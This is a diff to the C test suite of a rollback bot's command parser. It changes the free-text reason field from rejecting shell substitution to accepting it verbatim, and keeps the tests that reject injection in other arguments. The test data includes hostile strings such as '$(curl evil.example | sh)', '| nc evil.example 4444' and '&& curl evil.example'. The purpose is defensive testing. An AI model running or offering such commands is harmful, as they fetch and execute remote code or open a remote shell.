@@ -28,9 +28,6 @@ static const struct cmd_service services[] = {
 #define N_SERVICES RB_ARRAY_LEN(services)
 #define KNOWN \
 	"Known services: payments-api, search, checkout-flag, legacy-web, thumbnailer, ledger."
-#define SHELL_TAIL                                                                               \
-	": rollbot passes the reason to rollback scripts and refuses shell substitution syntax " \
-	"($(…), ${…} and backticks). Please rephrase."
 #define PAY_NOT_REVISION " is not a revision: payments-api takes a revision number, e.g. `--to 41`."
 #define WEB_NOT_VERSION                                                                      \
 	" is not a version: legacy-web takes a version of letters, digits, . _ and -, e.g. " \
@@ -865,23 +862,30 @@ static void test_reason_control_character(void **state)
 
 static void test_reason_command_substitution(void **state)
 {
+	struct cmd c;
+
 	(void)state;
-	parse_err("payments-api --reason \"see $(id)\"", CMD_EVALUE,
-		  "The reason contains `$(`" SHELL_TAIL);
+	parse_ok("payments-api --reason \"see $(id)\"", &c);
+	assert_string_equal(c.reason, "see $(id)");
 }
 
 static void test_reason_parameter_expansion(void **state)
 {
+	struct cmd c;
+
 	(void)state;
-	parse_err("payments-api --reason \"home ${HOME}\"", CMD_EVALUE,
-		  "The reason contains `${`" SHELL_TAIL);
+	parse_ok("payments-api --reason \"home ${HOME}\"", &c);
+	assert_string_equal(c.reason, "home ${HOME}");
 }
 
 static void test_reason_backtick(void **state)
 {
+	struct cmd c;
+
 	(void)state;
-	parse_err("payments-api --reason \"`id`\"", CMD_EVALUE,
-		  "The reason contains a backtick" SHELL_TAIL);
+	/* Free text (issue 11, item 11): quoted commands are accepted as typed. */
+	parse_ok("payments-api --reason \"`id` &amp; &lt;b&gt; *bold*\"", &c);
+	assert_string_equal(c.reason, "`id` & <b> *bold*");
 }
 
 static void test_reason_plain_dollar_is_fine(void **state)
@@ -945,13 +949,20 @@ HOSTILE_REJECTED(test_hostile_command_substitution_target, "payments-api --to $(
 		 "`$(id)`" PAY_NOT_REVISION)
 HOSTILE_REJECTED(test_hostile_backticks_target, "payments-api --to `id`", CMD_EVALUE,
 		 "`'id'`" PAY_NOT_REVISION)
-HOSTILE_REJECTED(test_hostile_command_substitution_reason,
-		 "payments-api --reason \"$(curl evil.example | sh)\"", CMD_EVALUE,
-		 "The reason contains `$(`" SHELL_TAIL)
-HOSTILE_REJECTED(test_hostile_ifs_reason, "payments-api --reason ${IFS}x", CMD_EVALUE,
-		 "The reason contains `${`" SHELL_TAIL)
-HOSTILE_REJECTED(test_hostile_unquoted_backticks_reason, "payments-api --reason `id`", CMD_EVALUE,
-		 "The reason contains a backtick" SHELL_TAIL)
+/* Free text is accepted as typed: it never reaches an argv (test_plan and
+ * test_hostile check it only ever lands in ROLLBOT_REASON). */
+#define HOSTILE_REASON(fn, text, want)      \
+	static void fn(void **state)        \
+	{                                   \
+		struct cmd c;               \
+		(void)state;                \
+		parse_ok(text, &c);         \
+		assert_string_equal(c.reason, want); \
+	}
+HOSTILE_REASON(test_hostile_command_substitution_reason,
+	       "payments-api --reason \"$(curl evil.example | sh)\"", "$(curl evil.example | sh)")
+HOSTILE_REASON(test_hostile_ifs_reason, "payments-api --reason ${IFS}x", "${IFS}x")
+HOSTILE_REASON(test_hostile_unquoted_backticks_reason, "payments-api --reason `id`", "`id`")
 HOSTILE_REJECTED(test_hostile_pipe, "payments-api | nc evil.example 4444", CMD_ESYNTAX,
 		 "Unexpected `|`" STRAY)
 HOSTILE_REJECTED(test_hostile_and_and, "payments-api &amp;&amp; curl evil.example", CMD_ESYNTAX,
@@ -1407,7 +1418,8 @@ static void test_history_of_one_service(void **state)
 static void test_reserved_words(void **state)
 {
 	static const char *const words[] = { "help",   "status",  "resolve", "cancel",
-					     "report", "history", "STATUS",  "History" };
+					     "report", "history", "STATUS",  "History",
+					     "services" };
 	(void)state;
 	for (size_t i = 0; i < RB_ARRAY_LEN(words); i++)
 		assert_true(cmd_is_reserved_word(words[i]));
